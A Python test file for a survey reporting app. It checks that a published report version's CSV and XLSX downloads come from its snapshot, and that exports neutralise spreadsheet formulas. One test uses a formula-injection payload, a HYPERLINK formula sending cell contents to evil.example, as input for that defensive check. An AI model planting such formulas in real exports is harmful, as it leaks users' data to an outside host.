"""Downloads of a published version are built from its snapshot, whatever
the live figures have become since."""

import csv
import io

from openpyxl import load_workbook

from survey.figures.documents import MEASURES
from survey.figures.releases import released_document
from survey.models import ResultSet, Survey
from survey.reports.downloads import report_csv, report_xlsx
from survey.reports.publishing import publish_report
from survey.responses.importing import import_responses
from tests.factories import answers, close_and_release, to_csv


def question_rows(client, url) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(client.get(url).content))
    return list(workbook["Questions"].iter_rows(values_only=True))[2:]  # after the title and the header


def overall(rows, key) -> dict:
    """The overall figures of one question in the Questions sheet: choice -> (count, n)."""
    return {r[4]: (r[6], r[7]) for r in rows if r[0] == key and r[2] is None}


def test_xlsx_questions_of_a_published_version_are_its_snapshot_not_the_live_figures(client, survey, alice):
    rows = [answers(service="iapt", raised="yes", outcome="partly", safe="4")] * 20
    rows += [answers(service="other", safe="2")] * 20
    import_responses(survey=survey, text=to_csv(rows))
    close_and_release(survey)
    publish_report(survey=survey, acting_user=alice)
    before = question_rows(client, "/r/therapy-2026/v1/report.xlsx")
    assert overall(before, "safe") == {f"Point {i}": (20 if i in (2, 4) else 0, 40) for i in range(1, 6)}

    # The live summaries are recomputed differently (here: by hand); version 1 has not changed.
    result_set = ResultSet.objects.get(survey=survey)
    safe = next(q for q in result_set.questions if q["key"] == "safe")
    safe["n"] = 60
    result_set.save()
    assert next(q for q in released_document(survey=survey)["questions"] if q["key"] == "safe")["n"] == 40
    after = question_rows(client, "/r/therapy-2026/v1/report.xlsx")
    assert after == before

    # The next version shows the figures released at closing, which never move.
    publish_report(survey=Survey.objects.get(pk=survey.pk), acting_user=alice)
    assert question_rows(client, "/r/therapy-2026/v2/report.xlsx") == before


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def test_downloads_neutralise_formulas_and_keep_numbers(survey, alice):
    """A label an organiser typed as a formula arrives as text, prefixed with
    a quote, in the CSV and the XLSX; numbers (negative ones too) stay numbers."""
    import_responses(survey=survey, text=to_csv([answers(service="iapt", raised="yes", outcome="partly")] * 20))
    close_and_release(survey)
    report = publish_report(survey=survey, acting_user=alice)
    concern = report.snapshot["results"]["concerns"][0]
    concern["label"] = FORMULA
    concern[MEASURES[0]] = {"count": 10, "n": 20, "pct": 50.0, "ci95": [-0.25, 0.5]}
    for line in csv.reader(io.StringIO(report_csv(report))):
        assert len(line) < 2 or not line[1].startswith(("=", "+", "-", "@", "\t", "\r")) or line[1] == "label"
    rows = list(csv.reader(io.StringIO(report_csv(report))))
    assert rows[2][1] == "'" + FORMULA and rows[2][10] == "-0.25"

    sheet = load_workbook(io.BytesIO(report_xlsx(report)))["Concerns"]
    label, low = sheet.cell(row=3, column=2), sheet.cell(row=3, column=11)
    assert label.value == "'" + FORMULA and label.data_type == "s"
    assert low.value == -0.25 and low.data_type == "n"
